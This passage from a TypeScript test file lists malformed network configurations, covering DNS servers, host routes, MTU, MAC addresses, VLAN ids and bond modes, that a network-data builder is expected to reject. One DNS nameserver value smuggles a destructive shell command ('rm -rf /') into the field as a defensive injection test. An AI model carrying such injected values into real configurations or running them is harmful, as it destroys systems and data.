    { scenario: "DNS server is not an address", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ dnsNameservers: ["8.8.8.8; rm -rf /"] }) }]) },
    { scenario: "host route destination is not a CIDR", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ hostRoutes: [{ destination: "10.0.0.0/abc", nexthop: "192.0.2.1" }] }) }]) },
    { scenario: "host route next hop is not an address", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ hostRoutes: [{ destination: "10.0.0.0/8", nexthop: "x" }] }) }]) },
    { scenario: "MTU not an integer", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { mtu: 1500.5 }) },
    { scenario: "MTU out of range", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { mtu: 70_000 }) },
    { scenario: "VIF MAC malformed", network: { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { macAddress: "zz:zz" })], ports: [], portgroups: [] } },
    { scenario: "no MAC at all", network: { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { macAddress: undefined })], ports: [], portgroups: [] } },
    { scenario: "Ironic port MAC malformed", network: { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }])], ports: [port({ uuid: PORT_1, address: "bogus", internal_info: { tenant_vif_port_id: VIF_A } })], portgroups: [] } },
    { scenario: "VLAN id out of range", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { vlanId: 4095 }) },
    { scenario: "VLAN id not an integer", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { vlanId: 1.5 }) },
    { scenario: "same VIF listed twice", network: { vifs: [vif(VIF_A, []), vif(VIF_A, [])], ports: [], portgroups: [] } },
    {
      scenario: "unsupported bond mode",
      network: {
        vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }])],
        ports: [],
        portgroups: [portgroup({ uuid: PG_1, mode: "round-robin", internal_info: { tenant_vif_port_id: VIF_A } })],
      },
    },
    { scenario: "unknown IPv6 address mode", network: one([{ ipAddress: "2001:db8::5", subnet: v6Subnet({ ipv6AddressMode: "magic" as "slaac" }) }]) },
  ];

  it.each(badCases)("refuses: $scenario", ({ network }) => {
    expectInvalid(() => build({}, network));
  });
});
